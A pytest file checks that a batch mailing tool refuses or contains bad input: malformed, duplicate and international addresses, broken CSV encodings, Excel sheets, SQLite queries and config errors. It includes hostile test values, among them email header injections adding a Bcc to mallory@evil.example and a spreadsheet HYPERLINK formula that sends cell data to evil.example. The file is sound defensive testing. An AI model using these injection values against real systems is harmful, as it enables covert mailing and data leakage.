"""Bad and hostile input through `python -m batch.run`: refused with a reason, never injected."""

from __future__ import annotations

import csv
import email
import email.policy
import sqlite3
import uuid

import openpyxl
import pytest

from tests.conftest import Job, delete_queues, people, received_counts, write_csv, write_template
from tests.relay import RecordingRelay

PLAIN_TEMPLATE = "From: Test Sender <sender@example.com>\nSubject: Hello\n\nHello.\n"


def rejected(job: Job) -> dict[str, dict[str, str]]:
    """The campaign's rejected.csv, keyed by row number."""
    with (job.folder / "rejected.csv").open(newline="", encoding="utf-8") as file:
        return {row["row"]: row for row in csv.DictReader(file)}


def parsed(content: bytes) -> email.message.EmailMessage:
    return email.message_from_bytes(content, policy=email.policy.default)


def assert_refused(result, *parts: str) -> None:
    """The run stopped with 2 and a one-line reason holding every part, without a traceback."""
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    for part in parts:
        assert part in result.stderr


# Addresses.


def test_bad_and_duplicate_addresses_are_listed_with_reasons_and_the_rest_get_one_message_each(
    job, tmp_path
):
    valid = people(5)
    bad = [
        {"email": " PERSON1@Example.COM ", "name": "Again"},
        {"email": "not-an-email", "name": "x"},
        {"email": "two@@example.com", "name": "x"},
        {"email": "dot.@example.com", "name": "x"},
        {"email": "x" * 65 + "@example.com", "name": "x"},
        {"email": "ann@example.com, bob@example.com", "name": "x"},
        {"email": "eve@example.com\r\nBcc: mallory@evil.example", "name": "x"},
        {"email": "", "name": "x"},
    ]
    source = write_csv(tmp_path / "list.csv", valid + bad)
    template = write_template(tmp_path / "template.txt")

    result = job.run(source, template)

    assert result.returncode == 0, result.stderr
    assert received_counts(job.relay) == {row["email"]: 1 for row in valid}
    refused = rejected(job)
    reasons = {row["value"]: row["reason"] for row in refused.values()}
    assert len(refused) == len(bad)
    assert reasons[" PERSON1@Example.COM "] == "duplicate of row 3"
    assert "not a valid address" in reasons["not-an-email"]
    assert "invalid characters: '@'" in reasons["two@@example.com"]
    assert "period immediately before the @-sign" in reasons["dot.@example.com"]
    assert "too long before the @-sign" in reasons["x" * 65 + "@example.com"]
    assert "more than one address" in reasons["ann@example.com, bob@example.com"]
    assert "line break" in reasons["eve@example.com\r\nBcc: mallory@evil.example"]
    assert reasons[""] == "empty address"
    assert f"{len(bad)} rows refused" in result.stderr


@pytest.fixture
def utf8_job(tmp_path, amqp_url):
    """A campaign whose relay announces SMTPUTF8."""
    with RecordingRelay(smtputf8=True) as relay:
        campaign = f"test-{uuid.uuid4().hex[:12]}"
        yield Job(tmp_path / "state", amqp_url, relay, campaign)
        delete_queues(amqp_url, campaign)


def test_an_international_address_goes_out_in_utf8_where_the_relay_announces_smtputf8(
    utf8_job, tmp_path
):
    rows = [{"email": "jörg@bücher.example", "name": "Jörg"}]
    source = write_csv(tmp_path / "list.csv", rows)
    template = write_template(tmp_path / "template.txt")

    result = utf8_job.run(source, template)

    assert result.returncode == 0, result.stderr
    [accepted] = utf8_job.relay.messages()
    assert accepted.rcpt_tos == ("jörg@bücher.example",)
    message = parsed(accepted.content)
    assert message["To"] == "jörg@bücher.example"
    assert message["Subject"] == "Hello Jörg"
    assert "Dear Jörg," in message.get_content()
    assert utf8_job.final_statuses() == {"jörg@bücher.example": "sent"}


def test_one_utf8_mailbox_spelled_three_ways_in_a_list_gets_one_message(utf8_job, tmp_path):
    spellings = [
        "jörg@bücher.example",
        "jo\u0308rg@bücher.example",  # the ö as o and a combining mark, as some programs save it
        "jörg@xn--bcher-kva.example",
    ]
    source = write_csv(tmp_path / "list.csv", [{"email": e, "name": "Jörg"} for e in spellings])
    template = write_template(tmp_path / "template.txt")

    result = utf8_job.run(source, template)

    assert result.returncode == 0, result.stderr
    assert utf8_job.relay.count() == 1
    assert {row["reason"] for row in rejected(utf8_job).values()} == {"duplicate of row 2"}


def test_without_smtputf8_an_idn_domain_goes_as_punycode_and_a_utf8_local_part_fails(
    job, tmp_path
):
    rows = [
        {"email": "jörg@bücher.example", "name": "Jörg"},
        {"email": "ann@bücher.example", "name": "Ann"},
        {"email": "bob@example.com", "name": "Bob"},
    ]
    source = write_csv(tmp_path / "list.csv", rows)
    template = write_template(tmp_path / "template.txt")

    result = job.run(source, template)

    assert result.returncode == 1, result.stderr
    assert received_counts(job.relay) == {"ann@xn--bcher-kva.example": 1, "bob@example.com": 1}
    to_headers = {parsed(m.content)["To"] for m in job.relay.messages()}
    assert to_headers == {"ann@xn--bcher-kva.example", "bob@example.com"}
    last = {row["recipient"]: row for row in job.sent_log()}
    assert last["jörg@bücher.example"]["status"] == "failed"
    assert "does not announce SMTPUTF8" in last["jörg@bücher.example"]["smtp_reply"]
    assert last["ann@bücher.example"]["status"] == "sent"


def test_a_rerun_whose_list_spells_an_idn_domain_in_ascii_mails_nobody_a_second_time(
    job, tmp_path
):
    rows = [
        {"email": "ann@bücher.example", "name": "Ann"},
        {"email": "cem@bücher.example", "name": "Cem"},
        {"email": "bob@example.com", "name": "Bob"},
    ]
    template = write_template(tmp_path / "template.txt")
    # Cem's message is accepted, but the answer is lost: he is in doubt, and not mailed again.
    job.relay.drop_after_data = lambda message: "cem@xn--bcher-kva.example" in message.rcpt_tos
    first = job.run(write_csv(tmp_path / "list.csv", rows), template)
    assert first.returncode == 1, first.stderr

    # The same list exported again, its domains in their ASCII form and a capital here and there.
    job.relay.drop_after_data = False
    for row in rows:
        row["email"] = row["email"].replace("bücher", "xn--bcher-kva").capitalize()
    result = job.run(write_csv(tmp_path / "exported-again.csv", rows), template)

    assert result.returncode == 1, result.stderr
    assert received_counts(job.relay) == {
        "ann@xn--bcher-kva.example": 1,
        "cem@xn--bcher-kva.example": 1,
        "bob@example.com": 1,
    }
    assert job.final_statuses() == {
        "ann@bücher.example": "sent",
        "cem@bücher.example": "in-doubt",
        "bob@example.com": "sent",
    }


# Other columns.

HOSTILE_NAMES = [
    "Ann\r\nBcc: mallory@evil.example",
    "Zoë 東京 \u2028Bcc: mallory@evil.example",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=?utf-8?b?Qm9i?=",
    "Long " + "y" * 3000,
    "Very long " + " ".join(["word"] * 800),
]


def test_hostile_names_stay_inside_their_header_and_the_body_keeps_them(job, tmp_path):
    rows = [{"email": f"p{n}@example.com", "name": name} for n, name in enumerate(HOSTILE_NAMES)]
    source = write_csv(tmp_path / "list.csv", rows)
    template = write_template(tmp_path / "template.txt")

    result = job.run(source, template)

    assert result.returncode == 0, result.stderr
    assert job.relay.received_by("mallory@evil.example") == 0
    by_recipient = {m.rcpt_tos: m for m in job.relay.messages()}
    for row in rows:
        accepted = by_recipient[(row["email"],)]
        message = parsed(accepted.content)
        assert message.get_all("To") == [row["email"]]
        assert message.get_all("Bcc") is None
        assert message["Subject"] == "Hello " + " ".join(row["name"].split())
        body = message.get_content().replace("\r\n", "\n")
        assert f"Dear {row['name']},".replace("\r\n", "\n") in body
        assert max(len(line) for line in accepted.content.split(b"\r\n")) <= 998


# Files through the command.


def test_a_missing_list_stops_the_run_naming_it(job, tmp_path):
    template = write_template(tmp_path / "template.txt", PLAIN_TEMPLATE)

    result = job.run(tmp_path / "nowhere.csv", template)

    assert_refused(result, f"{tmp_path / 'nowhere.csv'}: cannot read: No such file")
    assert job.relay.count() == 0


def test_a_list_that_cannot_be_read_stops_the_run_naming_it(job, tmp_path):
    (tmp_path / "list.csv").mkdir()
    template = write_template(tmp_path / "template.txt", PLAIN_TEMPLATE)

    result = job.run(tmp_path / "list.csv", template)

    assert_refused(result, f"{tmp_path / 'list.csv'}: cannot read: Is a directory")


def test_an_empty_list_stops_the_run_as_having_no_header(job, tmp_path):
    (tmp_path / "list.csv").write_bytes(b"")
    template = write_template(tmp_path / "template.txt", PLAIN_TEMPLATE)

    result = job.run(tmp_path / "list.csv", template)

    assert_refused(result, f"{tmp_path / 'list.csv'}: the list is empty: no header row")


def test_a_list_with_only_a_header_sends_nothing_and_ends_with_0(job, tmp_path):
    (tmp_path / "list.csv").write_text("email,name\n")
    template = write_template(tmp_path / "template.txt")

    result = job.run(tmp_path / "list.csv", template)

    assert result.returncode == 0, result.stderr
    assert job.relay.count() == 0
    assert "0 sent, 0 failed, 0 in doubt, 0 waiting; 0 rows refused" in result.stderr


def test_a_list_without_the_address_column_stops_the_run_naming_the_columns(job, tmp_path):
    (tmp_path / "list.csv").write_text("mail,name\nann@example.com,Ann\n")
    template = write_template(tmp_path / "template.txt", PLAIN_TEMPLATE)

    result = job.run(tmp_path / "list.csv", template)

    assert_refused(result, "no address column 'email' (columns found: mail, name)")
    assert job.relay.count() == 0


def test_a_csv_that_stops_being_utf8_far_down_stops_the_run_before_anyone_is_mailed(job, tmp_path):
    lines = [f"person{n}@example.com,Person {n}" for n in range(1200)]
    lines[1000] = "caf\xe9@example.com,Latin-1"
    body = "email,name\n" + "\n".join(lines) + "\n"
    (tmp_path / "list.csv").write_bytes(body.encode("latin-1"))
    template = write_template(tmp_path / "template.txt")

    result = job.run(tmp_path / "list.csv", template)

    assert_refused(result, f"{tmp_path / 'list.csv'}: line 1002: byte 0xe9", "is not UTF-8")
    assert job.relay.count() == 0


def test_a_sent_log_saved_in_another_encoding_stops_the_rerun_naming_its_line(job, tmp_path):
    source = write_csv(tmp_path / "list.csv", people(3))
    template = write_template(tmp_path / "template.txt")
    assert job.run(source, template).returncode == 0
    # As a spreadsheet saving the file as Windows-1252 would leave it: one reply is not UTF-8.
    sent_log = job.folder / "sent-log.csv"
    lines = sent_log.read_bytes().splitlines(keepends=True)
    number = next(n for n, line in enumerate(lines, 1) if b",sent,250," in line)
    lines[number - 1] = lines[number - 1].replace(b",sent,250,", b",sent,250,caf\xe9 ")
    sent_log.write_bytes(b"".join(lines))

    result = job.run(write_csv(tmp_path / "list.csv", people(5)), template)

    assert result.returncode == 70, result.stderr
    assert "Traceback" not in result.stderr
    assert f"{sent_log}: line {number} is not UTF-8: the file is damaged" in result.stderr
    assert "put it back as the job wrote it" in result.stderr
    assert "rerun the same command to resume" not in result.stderr  # it would fail the same way
    assert received_counts(job.relay) == {row["email"]: 1 for row in people(3)}


def test_a_quote_left_open_in_the_list_stops_the_run_before_it_swallows_the_rows_below(
    job, tmp_path
):
    lines = [f"person{n}@example.com,Person {n}" for n in range(10)]
    lines[2] = 'person2@example.com,"Person 2'
    (tmp_path / "list.csv").write_text("email,name\n" + "\n".join(lines) + "\n")
    template = write_template(tmp_path / "template.txt")

    result = job.run(tmp_path / "list.csv", template)

    assert_refused(result, f"{tmp_path / 'list.csv'}: line 4: cannot parse", "quote left open")
    assert job.relay.count() == 0


def test_a_quote_that_a_later_value_closes_stops_the_run_instead_of_hiding_the_rows_between(
    job, tmp_path
):
    lines = [f"Person {n},person{n}@example.com,M" for n in range(8)]
    lines[1] = '"Person 1,person1@example.com,M'  # opened by mistake...
    lines[4] = "Person 4 6'2\",person4@example.com,M"  # ...and closed by a height in inches
    (tmp_path / "list.csv").write_text("name,email,size\n" + "\n".join(lines) + "\n")
    template = write_template(tmp_path / "template.txt")

    result = job.run(tmp_path / "list.csv", template)

    assert_refused(result, f"{tmp_path / 'list.csv'}: lines 3 to 6 are one record", "quote")
    assert job.relay.count() == 0


def test_a_value_that_rightly_runs_over_lines_is_mailed_like_any_other(job, tmp_path):
    rows = [
        {"email": "ann@example.com", "name": "Ann", "address": "1 High Street\nLondon"},
        {"email": "bob@example.com", "name": "Bob", "address": "2 Low Road"},
    ]
    source = write_csv(tmp_path / "list.csv", rows)
    template = write_template(tmp_path / "template.txt")

    result = job.run(source, template)

    assert result.returncode == 0, result.stderr
    assert received_counts(job.relay) == {"ann@example.com": 1, "bob@example.com": 1}


def test_a_csv_saved_as_utf16_is_refused_with_what_to_do(job, tmp_path):
    (tmp_path / "list.csv").write_bytes("email\nann@example.com\n".encode("utf-16"))
    template = write_template(tmp_path / "template.txt", PLAIN_TEMPLATE)

    result = job.run(tmp_path / "list.csv", template)

    assert_refused(result, "line 1: the file is UTF-16", "save it as UTF-8")


def test_a_semicolon_separated_csv_is_mailed_like_a_comma_one(job, tmp_path):
    rows = people(4)
    text = "email;name\n" + "".join(f"{r['email']};{r['name']}\n" for r in rows)
    (tmp_path / "list.csv").write_text(text)
    template = write_template(tmp_path / "template.txt")

    result = job.run(tmp_path / "list.csv", template)

    assert result.returncode == 0, result.stderr
    assert received_counts(job.relay) == {r["email"]: 1 for r in rows}


def test_an_excel_sheet_chosen_by_name_skips_empty_rows_and_reads_formulas_as_values(
    job, tmp_path
):
    book = openpyxl.Workbook()
    book.active.title = "May"
    book.active.append(["email", "name"])
    book.active.append(["may@example.com", "May"])
    june = book.create_sheet("June")
    june.append(["email", "name"])
    june.append(["ann@example.com", '=HYPERLINK("http://evil.example","x")'])
    june.append([])
    june.append(['=CONCAT("bob","@example.com")', "Bob"])  # no saved result: an empty cell
    june.append(["cy@example.com", "Cy"])
    book.save(tmp_path / "list.xlsx")
    template = write_template(tmp_path / "template.txt")

    result = job.run(tmp_path / "list.xlsx", template, "--sheet", "June")

    assert result.returncode == 0, result.stderr
    assert received_counts(job.relay) == {"ann@example.com": 1, "cy@example.com": 1}
    assert rejected(job) == {"4": {"row": "4", "value": "", "reason": "empty address"}}


def test_an_unknown_sheet_stops_the_run_naming_the_sheets_there_are(job, tmp_path):
    book = openpyxl.Workbook()
    book.active.title = "May"
    book.active.append(["email"])
    book.save(tmp_path / "list.xlsx")
    template = write_template(tmp_path / "template.txt", PLAIN_TEMPLATE)

    result = job.run(tmp_path / "list.xlsx", template, "--sheet", "June")

    assert_refused(result, "no sheet 'June': the workbook has 'May'")


def test_a_database_without_the_recipients_table_stops_the_run(job, tmp_path):
    with sqlite3.connect(tmp_path / "list.db") as database:
        database.execute("CREATE TABLE people (email TEXT)")
    database.close()
    template = write_template(tmp_path / "template.txt", PLAIN_TEMPLATE)

    result = job.run(tmp_path / "list.db", template)

    assert_refused(result, f"{tmp_path / 'list.db'}: query failed: no such table: recipients")


def test_a_query_that_fails_stops_the_run_with_sqlites_reason(job, tmp_path):
    with sqlite3.connect(tmp_path / "list.db") as database:
        database.execute("CREATE TABLE recipients (email TEXT)")
        database.execute("INSERT INTO recipients VALUES ('ann@example.com')")
    database.close()
    template = write_template(tmp_path / "template.txt", PLAIN_TEMPLATE)

    result = job.run(tmp_path / "list.db", template, "--query", "SELECT emial FROM recipients")

    assert_refused(result, "query failed: no such column: emial")
    assert job.relay.count() == 0


# Templates and configuration.


def test_a_relay_host_that_is_no_host_name_stops_the_run_naming_it(job, tmp_path):
    source = write_csv(tmp_path / "list.csv", people(2))
    template = write_template(tmp_path / "template.txt")

    result = job.run(source, template, "--smtp-host", "relay..example.com")

    assert_refused(result, "relay smtp://relay..example.com:", "not a host name")
    assert job.relay.count() == 0


def test_a_missing_template_stops_the_run_naming_it(job, tmp_path):
    source = write_csv(tmp_path / "list.csv", people(2))

    result = job.run(source, tmp_path / "nowhere.txt")

    assert_refused(result, f"{tmp_path / 'nowhere.txt'}: cannot read the template")


def test_a_template_syntax_error_names_the_file_and_its_line(job, tmp_path):
    source = write_csv(tmp_path / "list.csv", people(2))
    text = "From: a@example.com\nSubject: Hi\n\nDear {{ name },\n"
    template = write_template(tmp_path / "template.txt", text)

    result = job.run(source, template)

    assert_refused(result, f"{template}: line 4: unexpected '}}'")
    assert job.relay.count() == 0


def test_an_unknown_key_in_the_configuration_stops_the_run_naming_file_and_key(job, tmp_path):
    source = write_csv(tmp_path / "list.csv", people(2))
    template = write_template(tmp_path / "template.txt")
    config = tmp_path / "massmail.toml"
    config.write_text('smtp_hots = "relay.example.com"\n')

    result = job.run(source, template, "--config", str(config))

    assert_refused(result, f"{config}: unknown option smtp_hots")


def test_a_bad_value_stops_the_run_naming_the_option(job, tmp_path):
    source = write_csv(tmp_path / "list.csv", people(2))
    template = write_template(tmp_path / "template.txt")

    result = job.run(source, template, "--workers", "none")

    assert_refused(result, "--workers: 'none': not a valid workers")
